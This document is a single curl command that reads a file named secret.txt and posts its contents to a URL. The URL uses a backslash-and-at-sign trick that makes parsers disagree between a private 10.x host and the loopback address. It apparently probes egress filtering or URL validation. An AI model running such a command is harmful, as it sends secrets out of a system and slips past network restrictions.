curl -s -m 3 --data-binary @/srv/rt/s/d1/home/secret.txt 'http://10.233.1.2\\@127.0.0.1/U20'
